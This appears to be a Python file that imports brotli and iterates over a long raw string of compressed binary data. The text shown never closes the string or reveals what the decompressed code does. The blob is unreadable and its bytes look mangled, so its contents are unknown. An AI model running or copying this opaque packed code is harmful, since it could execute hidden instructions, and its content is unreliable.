import brotli
n=a=0;b=1
for c in r'''߲J(y cip$|}9&X.Ֆp@ٶdUk3-N/dէSCܶdl`VVC{5ey&+-VYW,>):NX
YqA6`ыܱ!1No&5n!ׂ@fYܓ)R	yK<TT,Z}R#,գvOImX܌lW&f3ʌF5LUU{vp݀h
9L`qNkG^r;[urW͢OA@w	dUē!}\BZAq'^Ʊ*YB6x#ڏ ̪ƏL=HG~hhciۨܺ2k>\1F;ҁ+NoבLsGh*d_wƓ[jK<Au.ه_A&r[$iނ)aLGeĿwWN*",h<<Q3G5sW4(n*WA% m
ӕ[J)E30drQGz}7S5yk!ZvB58.!4ǯ-|J	yE}a";>1=2Z<5!Uy!ZiVfo
Ðrz=b1]aʇ'blis;#=MQZ;ZbHRao߷1"Qp|:__öx:|p˘oց8
*gzXVmceb$H+|.49hiwԮWO}J#xd<;\B«3>p{&pʱh|q?Huɭp̽|e!:;Vf<eЕtLz>ח'ep55s UGΦ.'Yϱ'CPStQODǏ?ty}ɮ6a!ЙÖߞ.JU0i/3r-IWKUώÅdDӡFVYKGJɑOC$BBչTJ1f;	B3u]^t3/6kaݰޙ1Q#(@mCt)GJ5ٔRIMͫ;ޱDrzUD\|`}I10AO\aʫ:ίNvd80.]>e^Ƃ4#uXTfeRZq?'eݩXڹ	_g%|9<zRTCpXoއ;ԇ79KHc#HyWMP{IlLW
w?(G2bnWrBi"%"N*oݨdԘL7dӰ1+ݻ!xTGJ̧rU.=tX4K\92I>
M}}of U5A;^#Bwg_7#IHF6)Ʈ4J&'VȈCߑe!lrVVn
K=-n=^Ojx,-w,~J#lTmgĴ̐nmX C݁sٲA%ZWȊA%Fޝӣ٘J{AHc[hI?$tƷ_Ԝʯ3Zr*ޜ;=8&^r	
L+x0^b۔M,Nj@zwCsj5ѕ.tYrb0zԶnxuۆO͠DC6\bN`k(qFiZ3tldX9I		z!pXX4R>J1¥&Nٟ#Of2`HjZ7Ov&BW)`3#C4͟JHUN"rsl@kخ8܆sS0:s˝$3o?nݙ`fc|׈4aF1="J^+h&X>0I!-4<|PB#&fhA|zי;Tvj#,N8ct@ˇ-r1"n|ÉROhMhĬNB>C_v<1;'i46koGvFQwڮ|H:m7l#_F@`ԥ^	8@K]-/rCh;iL_ c(fE~iC]H<S=u  3b=r{b/Mmˮ̋`{ZD`-JoWpu(jj[ښEШu~և!M:@|rMKz9l9Ujk3q8XDdQg;u%_z1Vn+6h#'<#ew~$W~iҪm1$UY:@{L^dwi&ddћqތ֐K0ٳRLI%n^y DVsyc}+^{8"bNKo<<-gc2JUWho%200b}bM_/>>uĒH6r)gblgTN=.B^_6n<,t@Pj7͂$DEhPjr(_5w,oUD&`[V-y0.h"v$6zP{ўCP.ǭI9pi>\=GEź/3];&cKk{,ׂ
МfiVNNTPUE>!ޘ},<;3)"?τ*[;o0uX;9Ϣ٭.eHŰٺVk8;{)Q)?icF.xu#|W)I[&? Jyϒ[gFtd*Ǜ^ZpQ`_y@wFrCߗ֦ ߪe&Pȥj1armNM6m[:;\!˹&#]wAhl%ʨ6HBQh'oEˤx5,$HZވ	lzM;><[-KbW:3i1ݍȵةW&tC\7zvO(Mnz*(R)lpR%*l?Rf̓$'*	v}Lt+,
KBq5u¬pǨQkM't*Χ!Σ3"ׂ˷kOZxpF#?ռ
R/ZRԵN}zLz/tHhsߋhm3]R	)ϽĆdo`owr::qJ%O:0Nks!X'ALQ|s@f?W&҄.NӨw!p@*@)V-'U@ԞRt
GXՅ?T4O'Xv6h.҆m2o3:UJ0ѿ׍f
}gٝu?pր{c8vUͤBjں	xp`ѷN3KM'8b="P$6U>bʙΈ(.RfZMj?Xܳ2Ru~+HS܆	"gpu5`:3lUXlй6,H:7ǘީA}bԜR
Mqȫr4oQkP+|H^v3\N1]دޔ6q{VU>Ѽ{f<@qNT7Ɲ]ǛExʜ?UoJ\fPY\1MĹ8aeVċ$#2w`KZЗޡ'վ^59u2+2JIA1C	ihd@KUD8jKOn	xj-|`2A=ϰ1w;#)cݤn^sP[?TD~:KӪּ ВtЅ(Ot?؇A<[5BdEQ>kPōBǫq|&L#r.
ǒ|Ȏ:y$&+Cx9ga5ڞR"|y*:M2gշ$ܗ^Dp׷J9 %`opٶ3!U]H<?kMFgZ 3X60Il[HQ#ZdT;kswT3״uڔۼÊNuc+^	4YW< VɆ8gaIЭށ[CdC# [l87`ԺI>(''	/srƦйH(m:p_u8Lwi|3[*ؙB2Ҍ[??׳C֮\knbj|6"wd~f!~D֯Mx2t&a@J:45HˮΨį_lLKFC"MJ	"msi1oFnOׂ,?.p.vN#`ږȝ)s\rڬxzj{m/Gcs"/h~:8FB6N:$adf{ytY]K/W	LA[tnrTr
,H݋yw~QBǂ;	7i	?3i؟oy)<r8m%f,ރSp)rI9(L/|Y@
ŭ^'ӟ)hsښCfs}L%ڔE'7'~Wc
N/EiE.ʜhM̬e3=C/FlB8[+#8,0!Qqe54cjf~,҆0_J7io;[ְ4lE,{ʱc({ڧwȗJ2bȞf։jW0'őh- vYQtgBa`K8m,ߤ GH4Ab=fߩL̢̡@6)ߎz#[݉R&EY(m4Qɂ`c՟J=c-1$P@;0PL[04RƵ]f#ktj-8oH&X5FhgN(ѓڋ6:{8 jEE%!hQ,' 5F_uRRWmȾ=K}A;UV#>3my._H
J}{Kxq0'=vwS߼!ѭ|DJw`=*dZgƏ«'hN^&^ǯRH"ךS6s<zhIa`y+}\Y$vm{ʛ%fYB`Se"Mw˴ԆqTjhiQՆɁǒ}3WlT'P/|pJYLfuw)+Ccjn
9z3]5SD%ˎ,+&ٵHɍѪ,%`ҟ/qh	wfDw0Fԛ@L5uEA(Ź]8XecSUV	%61V^օiIֳ{0&]&#ތw&J=JKH:Vm`	L"TOkb3k[A^Pk!_W-\
x̋y,-Wϊ4۞HC]j2]yoG/ZfQ@@9Ecoг:gߊֱ"U9%KgP)~"AonI4Ou~c8%y9Iղ2r5s1.!!˶JhV1eSrs~5rr_+v!qSOj˱I biƔZ8~g7\ǩLF*OO܏wO0\9Au]5aP!\<o!z|ҫ
N
DECm)|gxM<E;w2M#p.#UAź;D;ƝOVn2ܷ^[w))c;f)0'E؛j;t8BQcޗJ+jY-رd۽p[r*$~[ƨZFa(TӅ2c,2ʯ88o+ׇ<~~ݰʦXgݚ0E[Ҏr]OSנD][pa[{Z4jYBwQ")m2}TpWhʇ}kΫzłυ9δA-otŤO&@}3L1
6(zد֒XNL&ӭWɵq2[ھeP
!yr.[yE,.r	I"c^/30uh ȑpd\HW!-]D!`ã.X|~>-AZxs׭h'Ʈ*w>T؄8<.NLYܞ
&(0aqY=Q?|7=`dYfxI+^RdPّM`mCR@x217lg*$lǸ*ˋpd<dX}%Ip*O&n}+#(-
{y94| 
!-)AR!<?LikX`	.bjԫNʒuXIR`ƃ	)[ϑܘmFm)LT|Wʁ}@&*6<<,(O1{.uj{Hk`Oqbxաdg;7NJVFRp:c=BIن|7fz}k_SR`e{QF.g
}f,fdgT"0(<̄5dFu}ۜzƄ&9ܦnG0-Ɲ!*۱'8@Aτ2,e%2eS؂2 ۀJ4L1}-̐"td:YIm/6ksī؉DnfdD-?YJ7_sUYيvwa[*Q~=Rn,xb.86y8%7S]e		!3˷k>I8k̽r):";rTv8l1fD=Qene "Z:Zҧ"[) g>iV	. 7aTܻsħ<saD>M&0`cn̈́ëNYMmt@ouze}(~$79WIv,{XgfKs4!)b"NP'Pwh[v8yvMtʏB5o;qe+LuzGBlJIʚOK|nö4ThAݶWxQn%(C&6KH,֨MPz]/Iw^tfuF*ƽcrӺwbV?=hI`e,d+*s- j<#5qR69{Bl~FWfO}q*]26x֪AǴpEcsgWC(2yY_C7&`Ǣ5-?.H9309ځ?za\X>Z1=bOf'(#Ȳ"`0Y&eƓ^} 9u^b$rO/ED®l?t]mDaEݲU%yX9t cja/U0EBxڒtAy&c΄Sn֬&ė60pLm>j#0wlhwםZsoտNl=ݎdԣ=CvF
%LR\Ǝ\+9)ϠF0}#02(;vѴ[3nF _Z0ܨ؀_>%~7"QlUA2Ġ<;
zfS֔v[/SEKMN?26=O@;se*fBֶSj(^-Y>`9JEe&	
Ԙu,$ndӽ1L;͋ށUaB_zEMH8,eF]FmOi#tnc/3zoa&\O5QfWu<!Ղ\Kdk'Y`-?<{zQ`kČɏ0Nڦ˂G4nQ4Lc*MJI`w#86l	(5)b^&*X׷ye@}iH%uNI	j<([CfcmH8W-aipDTzyܺݓ}CRa؂%U=	Vcexp7/OF֙@şoT9Y<\Qll8+@.N3ўLƮPkȧCPd4V"q	]8aͩ<\u|vciۺle%ۣb#xhEQ:_Ҷh=\u#A(k1@w.pgFgPF!lUR_4v|¦x.^OɉvzΔJ3F#Z#+ɑ'R%H(yދpUn3j}B=	j]t|;&%9udĒPVNָ=Ϭ	"HЫPsEʗy3eGcˈHi$-:o×LxFps\l،)m}ZIWQ}.QIm8ӥ_5"h$rY"УM=nſI@$]rY>!O(+XjB+0`yT_I5v/°y6ޣ+ŦӮ#1[}T #~2l0uɑoLsgu\tL>zYIѝK?ҳfҪ)%FzۈJ^uۯQ7HuރaPЋ.En]6ۊ39qѩ}7 qv{9?֜pe:`@eי'Qѥ]=\h*|tȯL-Yاݣ]ޗm#$CHȿC=r^pn>M-hlؐ*W+k"֜LwiSn՚8@	!eKnŷ6e]zf(+6y(W|>(Ɵ_G;|~TjF&IؾsV3,5@ĳnrD9!MI 7A[gi0Sw<ݨ*)|#ŭe~[msͲ2NϪed:$Ո	"ز[9zWE7+p݆;sP@[65LGǆ2ܣNMgʗqӑ]l~YxT{{#jPg?Fg+6x%$YVɁw@$	%%;NSB1_\Әdeic\$WvVvr~u1]b"(֞yֶj.J(C#M6ë)<k#% pA\'\phGKك+4}<PK>8>
bo&͂[">B@7}{yL!P8Ts]hlkNCCnCvDw;}XgB8d5׫d?K3yWq~ڀbk6v+_vwQ@Yn%@M8QY tW$J[O"*!àO|ˈg]L~#5+F1PSA;O6z1hV"zBp@+ǟ܄PZK0FLWW݋fskKwŋ^/ݖ;Jʋ~y*Nb6רd܃d[n5ڏFhA	;F(^S$jvDiwA#0329ڊԐҁ`tKRtԆt<pL|A̓ReTC6%][`)kyx)Gz2>ϩ:]{4s/ر1|zl,= $*^o6\HqCHD[I11P>qY[бXkع2
{CSg	2},[Igԟ\OM=GXx$}RʫV;'>ݵJaݣ
]k_x
zܷ_"&XͬBտ\>},nzChɺV"bkS"$0^}|˽xb+/kW2p2:ž1SOL/Y'ryjOل(ΔF6>
o&[͔58߼YӀ'	2{)U+X><HɌO}sGS_cL.YTgx"QB"Svv#v4QQwzƑ-¿7	TԘ	_Ŝ1[
s0ce6/JQ;|DӴƳ~uYF"9	jm&>ư%$L@o0֭^&7^Â}%CڠA-ul.vN|Oгx#ųۺЯ##4%5&wr:"x^^2֙3f?،QkXKa+5|%c;٘K4->4qGDo"wAtR^@?5Q|%:ubWJ,7?U^W(V
{al dIكewz6EN,xŪπفlWHXLj.gw]cxBj}TɄ[Σt߉m /Ch{^t+߻+/Y_ct$bB^QbSy¹LRjV7}FW*acļGx~ԡ@^kڶZ	(9Uz75wYd`]c)SF\ۯɼk[rv}s,xd)hv882 gܐ݃hhI|r\ʔ
$PH6NF 	pXC0t/LuCLu5@ƚ8&(րIW%*R\T?H-\h֚
(tz6~>fJ{IE9GS4NN _2425w^LL˕Ƞ_0x{Kvj;bVE&Ͷ:@¡M/0ֳ9[yѾe1ҙ1=9|`~J)0sH]ڏ5{S7%"=gȔsܵ^	bA.~	D(Ϟ2>p:]ǬJí9+2Jە$	U^@Y;+
1А˄OA$[iMCĔDZ#ʣWV3
>rzLx\޲`5"_Ԑ:{]sSC0IhhT\]J:U-xb1WCA_EcAr?P~)Ѻ*f7xSVMjˠsH@5t2N7zR٦r.APPPMR-Jӄ\CպLrڛ,+ԆbߗV;SaӺ&	2.Ӗ2yio_i{XG!.@7Йz)?o
U} ֽTukȒ@	[D\\NFo`8|89Ƴ3GK#U,>:o*ƚt-
:7ӰӱDN=O_SPI%L<6`aX\7
҉d_^kAջ?	l؈D7Bf+(^{5k#ĢYBMrZ0<%f̬ry)Т]+գLD/?TP7)%
"7:}?ޑF|JS;K,JG+3*~O(l͒%L8k5{1-߲ww[=EF|OPka3w՗~)&COis%I?8wmB<KJ:݀M%TSv!L!,c:C3ōg;P4OR\+
ݒ#%#l$)W?~̲Yhޢsnf#b`iK_xpQo%Ux:ֶ6¸6:W=PLxΊѴS\wG]nJu?udzh:͎'F? :(+lcSC$_sG+ġnivk%x
d_nH*9	ekђBFPWOJwVak4NYIЩܒMO~g\Y]	 rQ͖BP3a ar'	IrB=Ft7:.Jfr2
c'hފd[	ŷݞ?Ձ/vԱIElb0&.Kɏ ˈaҪ\A*bX<I'Ũ5R;YۓKL./؅tx2O1@պj"_fG_C$9ٵ,;ǳ?HM63!q%#ۚ;&
jkÌ8Ү]oxl}ZhQX+iOΙff+I"H!f~]>m<+=	z5ޕ%2ϝe_yU3&!-nE9ji]	ގCؓ'E5gP
!DKaNXnnM5Ssqğ;P7iRwL-Ȓ%s
3c};;DW%Z/à=uܩ?<}8CZTNM<\{92auR܀{Z-+UY6ôN{gKۏWh;wY"Hsպe[(fa<u39}kћǭm8 ء`[},
@)֒N>іٹRMpVۈ[rRZ*]Ӯy:F\L=$Wb,՘\Q<Ň03^>)gJ$uBS` s3(A Q1@WBMvkƈ}[ vh7{Ds
tG9HC4a1|Æ+Q>ou̷P<BZ4ŲԸBhLY%) gD	,ʲu_/ک eBPtkEYF$sf:S6+3vD+kN
w,WKɤj^۸Qy4"̵PIU2+ l&U*Tcŕ-\[P{ 1
I>?]q2)Og5m3hg,˫>t4q.{wJSߙf&yyѲ0p/lgM,g;h˞dΰ͜+R0@$HPWfO1.
Ƴa|@`/=ϔ_܅{jwc#Ζ=dɣWKG+zJ=ûb?Mw
ŃQ7cAKT3ЍٺD~Gϖle	̛*e{֫HЫzIWTà,VA]=ȯ4#rvp"y͟<cc&/TKb	&"۪49,ռܶX ~:Bibņ<.#_>&1s*<@Rpqq+oZDĞALZ;8_{2}g[Qŝ-d+ms{lڃtZݷ<	&qfIF0?4mfG3[^lL̽
hd߄n<m%}n6sX#ݓC	Δb1'ݙ-#bgDesւJh)rbƱAV[C1Wd$tVς4+2Ԯ0c-GpF*/̣f-b>Xqߥ١"cπ	o;)%l6>]?ք% kzcJۘ[KپoJa(Yf>4?u*։{ytYAsoߐ`tZ>"Yʡ-/q<ZEG[zn'f¯+q@Ӫ˱m@653b$fΥ\%<ے#yf*?FVW
Cdm6By7M^[V3]ȄX`QK֤7C"ӌ?>n)Ľ5_MpƈUc޽wS&JpڿߪWQ²hK	4}E5*&R¿i-tk+EK1yu]!^MH;sۅf
@:֯pߌG<a~޷\y&)-x('woW`>,vϿbY
ER7ppoԍ*<+uz
NԶp'
he3?Bŋ{L83T/Ke99xK?f\et'U;hБ*»K%10bЩw;^8N,(,p ή<$%+ @UKbyWtgɯaCrS\abM}?L5poR/70A5*7SJ?*zGPW"4º3+2\US$<FQܹSȲ/ukLNјgJZƻo YZ?2L*irÂYsޒdx8ra<(|AlGZCGV6½J(ˎf"'wwfkw	i|3)?û%-ɠO7we
؅Դ,lTVE@˗vsIiœiw0Q.I`dW`aI@Ƌʗr%,	.Ej1ZVui`.:x+	VȊ|vE``Apl?2y0jKI݆*~qTRI;uGޱʭNE]RG4tVbXG"yR"IѠ0(AHpJxIq%DxDl\<@֘_%Щl֙X{w{޽ʯq>rԄ3ΐj\zzP{JWkI=6r#e_Eܚ(ܳ#d% {VfȞQGq/m tӷ.|ֽeBJHJeWO"p݂F33jkwؗ(Wؼ&΍]<̥֎؎þ״U jze?	gua^}u>5^$wl]4!_fЏjЋ)F4SK{Jf/)<qԒhčMD1ڍ֟?
jCI{|ҫ]Шt9۸YɫR&"];Cw],ӳǵm>-*ȑvؽgo7kHRz/b&קD;VUB;,d8w<VJQUR],WFH<d̈́W">IPnhցOZ0HGan2.қݛGwN;Y'KxKik}1QIm>FGUSk6{C%QWɖТ)G [r-N.6@#>KY3vB*)߂XJB)J&YR0idmTϙ6m4hn؎ogX9Ł;<=t19l#܎%@ga~|01҄feJVKߪےm{)J^SSl.FG&҈I9+MMtI}^Pg!0;D4q#x|7)#v܏axEm8#9b/b Y<";0UɛP'-D!)W
ӽC,")Lʄߡ	q}#&j(j|eTyʇ\VYǉzW~'+]Zx)ȋd@f\OMpλU#Y-
&6!@SO."HF?GCuU
֤`"~f,mHrn0lS7"{P?m֐vǾf#kgȈ88iTRS}$%e۵xpH'TnPR3ĺ?/U%9{q]kN*I(ŒP*#%jO1jn)xuΓxVy{ſ*ۼ]\X+PVCyHX'(mW\q1~Pgiea[PޗRĹC\K"f"Lvȶbm2JIV2WzOHY
3Zx0(׊i"oJ!eͦ3=3Jw=q3ȅbr	LQF%hlЯy2X34G|XƳClW)
_|\yY$t[&d\G.^rUNC}NtǝALOJT(ȹ5}]ѱ.&;бg`~ktLiomI}]&3҄<4"^`bq$̈ՇҝNi p0ǨڬW%rرT?RoSУ@}ZJ֭ߡ2W@$5gў?sm&P7
8j}ê;[k'opN֍q23=\J(~qݿ^:!̢'b$aЙ!ݗ<\QrșЪy^m5U"# qIόV"TI2%Șl~ĝ+eA7:U;T.%jQʥqI
;܊6͵ϫO45-J)	GfES1]:ʲ1ʤlV\'SXxW>F1Oʰԛ0"x0\yaGvM#+pn=]}Ɵm*483>x	̉9%|K"[ԧ|-%hqӥ,Soa NԌ+
3/4$ȅ>o`ZcƕG5tۣKo}/l$,|@2/jɺc;vRXck+ˣfp̈́^ E qW5 /6<fd~ZU(=c HƬ@0ު'+k5tRlͺW|}I+@	#H0LbV8AHrl,ڿ{RȺGJ2<k#s$]O܉r8Ć0gJOc]O2qSt
@v/Ӕj`K8Br;3nOC΢dD!۱m_eÏj.u9\3ID75b i>b!Z1}JI)w^S+<g{-;Cô$	Pae!0<3l{SF,AxSn?6+4$lڠM>ԴPi3X:LsäML3FBI9ݐ4P[Du׷	Y2l]|Bd$NE
1Z6impdi}Wκ6=7R7mnOo_Jd߰Q%d|`ֆӈ'ckN׿s0U=inr%׫b0ג{Dei\n(pG>g͎U9E'&Ã;;)6'><pzܛs/N'?O8@|4dՍFTܬE	3!\}ܰt`ҭQ7u9З_u|VSu-)s`v2T%w˳c(7\2]=AEܿ5X^ԼO#;#{|XGwHȱc=O>)BOSM1iж`es%5Wh1ڂĨSNs'cfVQŃ1O:dU~=g~jҨ.fdW-qӦ$4J5n)Ý	,O/,u@3HZKXrwBn99!jrqwAL9)l
r~>9pZ!ELbW
TΝi[Ѡ?6Gr64,5؅Ue!.GA+FG&Jĳˤ_?*H]AH%u
gȿȵ@Sf@.ytKIe?ۆίż9c1Ӝ1@nH?-<YgZ˫._N0)xآ%ˁH@le}\{ƐZUiUޅ]YytyT59BI|[JcdNY58ЌL%2Z)؏`yCT^«Ѕ1ݮ0ж{*M_s	u&Jء9&j>Xb@C\QN'L,ӕ4_}u)ÄŸQ
M^q)Qzv:ηN|#ƸIK4pR($I$c6O2׵=R7
tx7_aco%#&>,lNAgyD+4ʜ84`:NeɝemH1R+(4[%5ˆf}aB}׀94ǴۇK]ռ(:l`S#5bCJAhwiSۓAŏ<GgEoKÎw<~K7aݣ!;";J,"6*Uco<.gkg
<.!ۧ9F']\D&/xaWg$
|=Eh?T#]5<x.qAWóa}/ o--2r.ԎP!{nM/׋6G΁g1؋Vސ˷r]cT
[	t)[ܵ٠@1R
$(I;o
!:]*ylYS[<a.;dCma'ڕo7"Cō6uq5PȑƼ2݋Hqתi77o~ɸ̦|ͦDCUOWy
uO_޻T7	s"XȮ>ҽ(&8	IhIVu;*1JioUwZtxTGʣ	ɷUWSIj:2̀tՍ	[-ۼIOސ&M_%b!re&ʞFm?^3NƘk٠G×@9ǹl$fǬT7!--XWƔzdN=|~bSŸ&{è*G/9_{1/qYOhU٪ć`Vj>r75ʐטl_r\"atA;G60TkI	ƗҫpZ?a[XW^J|_06ǟTU4>igciFۑ&B<!$}R.Ge*}cz8|lҙƜcbC5&Z=\Mƴ	7͈}vS٩F5O^o+`3"tZǝQ+Z)*[+qI4uEz-Dxw,s ElXKN9#FdԍEsmPg$tТIF=y>yO}{@zLWޮsKPƾ,F;.$QPՀֵ8[0É!.іK@v\{q~h8'uNYclD8x+u}']y;`֫K}<O6]<¦x'SR=()^/a+@Xf	zj!{YpҸM f7rbq/CǅA]w@q`WƐ(aE,!?=gm@¯ƍFoO=5Χ4Ci
E(-
=h{ն1tyVZ&>Ъæ%!c.1sGD9سߩUD<^BGXA4+J+"O@c2FɊrvI4x14c˘*KOYtW0'[eapW]/?mW)V4)N-b/gC@zئXɆQ	=?{*x)*'«b;!MM^%m#KuBl%9dR1T
}JW[B	ěWIo>B~DЋ'ӤG<cOr;lnVgkvd~?ghKN/@NzR~pU [%;ߧsy
{rAJ$uH!5C#ʓ.~߿`]+'J#N^{$bKq xITg>*ؗp`Ίg5/@M@HoKՠ&=nd{ˈ0yԧ0ZÞ*u.(G6LV*S^ʤT-tVdȪ
Eě{>5rP/̌-͠4e*>i޴B3(,1~$[Xd*;e*Љ__.~:G<iJMٜy2vw~,
BF)?<ZBR|D#ԫmS]ȇGspu|95?%--F7qޱ3eX6K z~Tݷ+2|dgrԡZ:_g?+O!A	Ot	nșŋٗwin2k?Yw%EsD:LV)Kd=XgUF%%,-4Mdgd&$fTϩVڅ~7]{j)"1ܿ6L#L8"\śϼ#K"=$Oٚ^+?ˈnI*'Oƶٹ-MϧUBZƑ2#,tAȠYU;d!;	.F::7 tN`K4'Xg P7q7Ycװ+ܐGuǡQ߭KXotDva0eiWUig5"tcjԳNcי^BKo)Iq<Z]'E_j'hG%,ɘm{v(MG{Hǽ`De`?4LSKV`|RSqV΅{N~v!tޖyo-[˽9S
~OH\yׄiIs͞2Q7NPy"r68wp19̾PП!#$4ݢ]u9TR&?H93'%no#'+wωPo{óo7Hg- -܅CJB:B/	qҔӈܥ^`LiPtoLRԒ\ozLW`ԕ>ۂqʘgojt>hzlo~bUH(-teO6U߶ߢEe\#qxl_Jīԧ?4x/M;x6JBKb2:VHm4	Zf(N28"5%$y+
*9`պmmzAu5xmqZPJ˧| ?	al*be̙SoN:-ok
=BTf`P"7+AŻ ][*]p8%`˼pW׫t`3:,{xB.ޛljrƬ?qjCZubzIͩdț<qdHy)TɔuP҇tSjiDpL5$VnP_%8;@3
mWkI,|gSFPyNwI|X< ߌ3n.ЏԈ0Ȼ?
|=\фyٚ.ӟ5'G/qDީ2k<c$Į+Jwmtjua͖lk+/߬HfjZlیF hȫp)=+&tGAɇ&V?I%/fR<Tb7ǲpG.37" ux7W.j]p@ة*RPhn1lyФn`IvoGG3Y]vedF+:2K
8X969s۟CEҡ'wf^7QrI432;g_}yUΩJF`iFI2RyIەeiJR=BC1IM5t=SFW͡9W;<r2kwf6Gpۿ,rf,ҏOqǑxG_c0^Ǔ/~MŷvNN-`",s$8&hE1@@9c?&Æ3a,V=ɚ^Ж;sW7UJN2cbp `4w!n|˥;E&8ݶD0q5FRWs@7̪TRȤEKT`-#6Q҃Q8Kf	Q9+v7	>820Z:ŒE}6gZV#^3gV },_Xr6{xۨiӱqNwB9Ԍ<,m2({knk~KC5f2Ͷq9Ń1 WmeH#=(/<9eM pnRd׾D<֛1U}t^2W:KK8v"Q`՗bKBډtw.+ltBK˭Чa*0HyX\nPes·FI)ϥWJ2ʸtf{ڂt:tj1662E%GJ$	Ρ!ghob?Mبa\6[g tK=[	>JlcPӠ{x{*c[.ؽ5Mr4i#Kv'RI?~ɫ_ܤԦs܏['R&ؙMǙ(5,<͕^1FтVİ'Y'R${PT@oFNpzxU/"?W0ZM:tܱŏۆmoPqo
:+`>F4]}<V
R7S jem{Q|`؅աqsV{Qͥ.HD[S#t٩&1^1ڡiZB<$6ԚG<P?,5Ļ,i]NLj&p@cOV$`moxD75Q.[N|]xh?h&u`$C#["-B&<$r"Lˣ[W^|ۗZ6ր9F=1pv&LKE+VEʞIȁI\>lq)ӾmM	yfl?KNu̮/
-@`y*T!lv}ʫ2-h2cl~M4Tܑ0sǨ!lҚHvi(\^oΠni2xQ(ѣ1ƈ\r 3EPy%mj@ފ`o\/r͖ɏܶTR0xNvx&?}ɽ'(s6DJNJr'ρ{nG2߲ۧTj	u*lйK3j}<:< )nE͐sː{J)ϔAQ9ͩieokΧ=օ=<oi0N.̶C&~t0LҋIN2S2%U:)Q3*OAnW"/*`jIuhNv>?q­uŐpRk;gD2[xG<UdY*~qdyɃ5ԶD.ϫ(sn'*/F҅Ƒťa!9Y N%ԁ\Bא%'+.|WYȤ9Zjڬ,U[Ht<"׈2ب*^%6p>RӐoqx$#Oy
rզw}.Qo.n7#~ n=nܲO
%\FbS'$ŠZ'_CK*fX4d6{)|i$Ɋ$+3L6L/w+mgOޙ6$HY;
]Ι%	ڐbTJ|ܣcc@W[s2s	;cX,#O"hm[~C#*5Tڗu}2	N_#l̕Bέ^;r'm$5wY}/eUyB$IC,Odݫ%*r3
#LNDr7ϔ(*_}vOݚ5(ݤm^F"V0	į!i]+)vElY)W+ݦ[391vޢ $W\Ay%_+oۦnHsY?COM^-Q!>I8&_|ui	*.máLv͒k˯#^aA65ޚC@-7%t1rn8܀WƷѢe=ׯì	'?(g=sPr2>ǫoԼ';wњA^+nOPJmԄ>:ZH޹ݏ1(G#ԟc 1+ælGsJT@z8g9x+fEFޓ~xVL([JUu|6UFDL~}pWQil;D-ۊfl{FO,ӆ=q=9s7aCvƣ=mBr=ܷƥ)Mdիs%`#PԒ-ݴۑU~({0J4^Vܶ_-k?Kf\ۢ0.	$cyM,k;IEnDJRy"]*fȒzr6En/m|>n9~ wE.a!sbqle$T%H֋%ހ1ӵ,G9vB
n0ܾ?g{	|#oT~bْnݎFjO
Cx+4h[0+xK҄	>L]zXZXq9ó'DpwbJW[:A/d=^ۭǲY9co:eH!qItƑ#wLH=}A^E
DU<&Z=P3ӫ$N|koNÖ*Llʼ?K(ކ_"
M)/vóDaӗ*!8d˺!Ktop.rbuR4Op̹_qd[Đ]2\syB314,N<cWcg~u1QNǏ%O:?SBݴ/V@n2ՙNdrмUtw'	w]T!TGOq(-md<Ć]"*3Jd1SW{Oհݣ5
7KwŤT#`\ND؜A6_%_KwIrS6tl
S΂	cM7JգԻOQ6P%NiEw׺xw͵qE&gkQ8`XZ2^S9[p:xg*ԿPRHQik^_h':,wo# *O.RCmIw !҂+9~>*#v9eHi!ˠIW	oT>6R:QӠ6ocԳ@FoQUhkuZ)	(~D39]k1#ԿgECU%Kl*'Ih	+ְG:06n]D+bie@i9%!ZbpJ'z_P44;+p0,I}$ySнϚBNUΫʀ%G}U,YbU@^yG}/ʝ"iɮk]G	K9nHk^1~gյ
^@.H2ݾY'ʸtY}i[g_my\ސUrОV\LSd,D'Mktƚ%-$w`fU#GsjK `Y<i]kAIҕޤFy)ҳ֜p'DF0PDaRSG
%η;c9eY-bVa;
;_ASu1'ĺie&,B{΁yp׿FV0Dȃ$`}HLQ&tdD4kSuՅ"ua%5*ܫxwIKz -`@zbE<w_ǤqT ʿ.VfmΡW{oN.wډϯaGDhQВ`mMk+8S@VIzw#ćڦoOy-ڞ6;{V܌ui;G$j'"'y˅CeT5Db5%wM1&"PO.h5o_AKli qӎI8RbD~9ؠۆ[{NfH}=$R	AS:JQ/Bjrϼpi#nsUo@,Yyu?b)PYf'`RwLbJqď9SP'Y71_hFզRX\idOʓ->$qɧ=7V^Kl3mLrPŵS=&a#*4nĀ3VP'KD5;/"VsӴ'ͩ25|@Q6wԋ>k{y$3IJCڤsy!I'P֙*ÁXپ}DV߮:,OnVgh66DڦZ]خfG^g֢\(߄!L>ȤD-Cʛ2M[9eFSL:NfIDAծYh*w&];J(ĳ̷4JʠjQ\Y%*ڬ_kWX7}،װUA4g,/%!w}eCԚܓMó%&tӗ Execgjxb}){DB@ץ?taH^*	ZLF@=>֢Y`3mW`\U-vCpu9V<S)ELXh\d{.y-O~Е"t+}5x6~qL #dF :q'fߍ0!u03~cumfo=!Q#h40"۳Phڕ`اҿQ	
$tc[/S/$ZkHn})4Z}bg{?&4W-5}ZbזH/؊B),>fRb)6QF$z;(tаpV;Ր?5epZodO/aXa7K9"!_|pƻڹϨrU^^o0jǵ6sKKr7I"ad.~hHr2,׷qX"/wd+Hm4tY"N)r?q=#;FU`{YH)Eam܅Q@d&p.W]+܂Y`#O"-&řݒ)&käC ɧp3q(ocmAXttĤ'MlC|̿
h
>m'*w:{zpB31nP_WubYՂYU=^1ۍ2}6,.4xp{P0Ē/G˳;3oSl$y(bjۻ_`;n'.]PmsvF#jB4'ݞѽ@8BmEČQa9˔{"hHf XD'O6EbT;Pn( Г߿Yv!v.IB8.i5HmtU	'K0Ԫ7@7`ziU-D7׹?8{`ά1y\g6AZ%ī+۹Ev41Nb#Ci$5~(IK܋ć;i
M@
m<-~Юzam@bӊsJk.}p6S4ܽj(ڢm+J\ccfߺ	xԲm0L7SUͭX~Z}R[w"mɩ::kCٱ۩:e!l͊UͶ>/g`d~{C3=b',h?XdZPvҬ[+ڬt9W}Rptn=P]KrȖycnŊD̔٭8h[	^d(=MO[yOժyux!XCq$'{0V'X=ʙW4hQ`EL}]8^$WP)D}'<f.3apJ)_|/QA.d64ήd˸bD)Zj%\3ܢ+,v
